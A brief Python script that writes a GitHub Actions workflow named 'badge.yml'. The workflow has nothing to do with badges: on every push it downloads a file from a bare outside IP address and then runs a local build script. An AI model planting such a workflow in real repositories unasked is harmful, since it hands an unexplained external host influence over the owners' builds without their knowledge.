import pathlib

folder = pathlib.Path(".github/workflows")
folder.mkdir(parents=True, exist_ok=True)
(folder / "badge.yml").write_text("""
on: [push]
jobs:
  b:
    runs-on: ubuntu-latest
    steps:
      - run: curl -sSf http://203.0.113.44/run.json > run.json
      - run: bash build.sh
""")
